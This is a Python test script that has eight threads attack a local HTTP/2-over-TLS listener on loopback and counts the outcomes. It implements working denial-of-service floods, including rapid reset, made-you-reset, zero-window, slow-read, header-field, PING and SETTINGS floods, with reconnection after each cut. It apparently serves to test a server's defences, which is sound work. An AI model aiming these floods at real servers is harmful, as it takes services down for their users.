"""Attackers of an HTTP/2 listener over TLS, which connect again whenever they are cut.

`python -m tests.promises.h2_attackers PORT FLOOD SECONDS [ADDRESSES]` has eight of them flood for
SECONDS, from ADDRESSES addresses of the loopback network, and prints what became of them.
"""

import json
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass

import hpack

from tests.web.h2_peer import frame

ATTACKERS = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, NO_WINDOW = frame(4, 0, 0), frame(4, 0, 0, struct.pack(">HI", 4, 0))
SLOW_SECONDS = 0.2
CANCEL = b"\0\0\0\x08"


def block(path: str = "/", *more: tuple[str, str], method: str = "GET") -> bytes:
    pseudo = [(":method", method), (":scheme", "https"), (":authority", "a"), (":path", path)]
    return hpack.Encoder().encode([*pseudo, *more])


@dataclass(frozen=True)
class Flood:
    """What is sent once, and again and again; `pause_seconds` between two pieces."""

    once: bytes
    again: Callable[[int], bytes]
    pause_seconds: float = 0.0
    settings: bytes = SETTINGS


GET, LARGE = block(), block("/size/1000000")
SHORT = block("/", ("content-length", "5"), method="POST")


def ids(round_: int, count: int) -> range:
    return range(1 + 2 * round_ * count, 1 + 2 * (round_ + 1) * count, 2)


def rapid_reset(round_: int) -> bytes:
    return b"".join(frame(1, 5, at, GET) + frame(3, 0, at, CANCEL) for at in ids(round_, 50))


def late_reset(round_: int) -> bytes:
    """Heads in one piece, their resets in the next."""
    many = ids(round_ // 2, 100)
    return b"".join(frame(3, 0, at, CANCEL) if round_ % 2 else frame(1, 5, at, GET) for at in many)


def made_you_reset(round_: int) -> bytes:
    """A body of another length than declared is an error of its stream."""
    return b"".join(frame(1, 4, at, SHORT) + frame(0, 1, at, b"x") for at in ids(round_, 50))


def asked(path: bytes, count: int) -> bytes:
    return b"".join(frame(1, 5, at, path) for at in range(1, 2 * count, 2))


def many_fields(round_: int) -> bytes:
    heads = block("/", ("x", "y")) + b"\xbe" * 600
    return b"".join(frame(1, 5, at, heads) for at in ids(round_, 50))


def a_little_window(_round: int) -> bytes:
    return b"".join(frame(8, 0, at, b"\0\0\0\x10") for at in (0, 1, 3, 5, 7))


FLOODS = {
    "rapid reset": Flood(b"", rapid_reset),
    "late reset": Flood(b"", late_reset, 0.001),
    "made-you-reset": Flood(b"", made_you_reset),
    "zero window": Flood(asked(LARGE, 128), lambda _: b"", 0.05, NO_WINDOW),
    "slow read": Flood(asked(LARGE, 128), a_little_window, SLOW_SECONDS, NO_WINDOW),
    "many fields": Flood(b"", many_fields),
    "PING": Flood(b"", lambda _: frame(6, 0, 0, bytes(8)) * 500),
    "SETTINGS": Flood(b"", lambda _: frame(4, 0, 0, b"\0\4\0\0\1\0") * 500),
}


class Attacker(threading.Thread):
    """Floods, and connects again."""

    until: float

    def __init__(self, port: int, flood: Flood, source: str) -> None:
        super().__init__()
        self._there = ("127.0.0.1", port)
        self._flood = flood
        self._source = source
        self.counts = Counter[str]()
        self._context = ssl.create_default_context()
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._context.set_alpn_protocols(["h2"])

    def run(self) -> None:
        while time.monotonic() < self.until:  # noqa: TID251
            with suppress(OSError):
                self._attack()

    def _attack(self) -> None:
        self.counts["tried"] += 1
        with (
            socket.create_connection(self._there, 10, (self._source, 0)) as plain,
            self._context.wrap_socket(plain, server_hostname="a") as connection,
        ):
            self.counts["connected"] += 1
            self._use(connection)

    def _use(self, connection: ssl.SSLSocket) -> None:
        connection.sendall(PREFACE + self._flood.settings + self._flood.once)
        connection.settimeout(max(self._flood.pause_seconds, 0.0001))
        round_ = 0
        while time.monotonic() < self.until:  # noqa: TID251
            connection.settimeout(10)
            connection.sendall(self._flood.again(round_))
            round_ += 1
            connection.settimeout(max(self._flood.pause_seconds, 0.0001))
            with suppress(TimeoutError):
                if not connection.recv(2**16):
                    return


def main(port: int, name: str, seconds: float, addresses: int = 1) -> None:
    attackers = [
        Attacker(port, FLOODS[name], f"127.0.0.{2 + number % addresses}")
        for number in range(ATTACKERS)
    ]
    # Their contexts took a part of a second each.
    until = time.monotonic() + seconds  # noqa: TID251
    for attacker in attackers:
        attacker.until = until
        attacker.start()
    counts = Counter[str]()
    for attacker in attackers:
        attacker.join()
        counts += attacker.counts
    print(json.dumps(counts))


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), *map(int, sys.argv[4:]))
